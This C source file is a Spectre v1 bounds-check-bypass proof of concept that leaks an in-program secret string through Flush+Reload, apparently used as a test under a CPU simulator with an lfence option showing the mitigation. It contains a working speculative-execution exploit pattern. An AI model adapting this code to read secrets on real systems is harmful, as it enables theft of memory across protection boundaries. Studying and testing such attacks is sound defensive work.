/* spectre_user.c - Spectre v1 (bounds check bypass) inside one program,
 * after Kocher et al. 2018: the victim checks x against array1_size, the
 * predictor is trained with in-bounds x, then an out-of-bounds x makes the
 * wrong path read secret[i] through array1[x] and touch probe[secret[i] *
 * 512]; Flush+Reload on the probe array tells which line came in
 * (flush_reload.h).
 *
 * Under entrysim this leaks only with --speculate (the cycle model runs the
 * mispredicted path; RDTSCP reads the model's clock, CLFLUSH evicts from
 * its caches); with "lfence" as argument the victim has the barrier after
 * its bound check and nothing leaks.  Prints the recovered string and
 * exits 0 when it equals the secret, 1 otherwise. */
#include <stdio.h>
#include <string.h>

#include "flush_reload.h"

static unsigned int array1_size = 16;
static uint8_t array1[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
static const char secret[] = "Squeamish Ossifrage";
static uint8_t temp __attribute__((aligned(64)));
static int use_lfence;

static __attribute__((noinline)) void gadget(size_t x)
{
    if (x < array1_size) {
        if (use_lfence)
            _mm_lfence();
        temp &= probe[array1[x] * 512];
    }
}

static void evict_bound(void) { evict_user_bound(&array1_size); }

static int in_bounds(size_t x) { return array1[x]; }

int main(int argc, char **argv)
{
    use_lfence = argc > 1 && !strcmp(argv[1], "lfence");
    calibrate();
    victim v = {gadget, evict_bound, sizeof array1, in_bounds};
    char got[sizeof secret];
    read_string(&v, (size_t)(secret - (const char *)array1), got, sizeof secret - 1);
    printf("recovered: %s\n", got);
    return strcmp(got, secret) != 0;
}
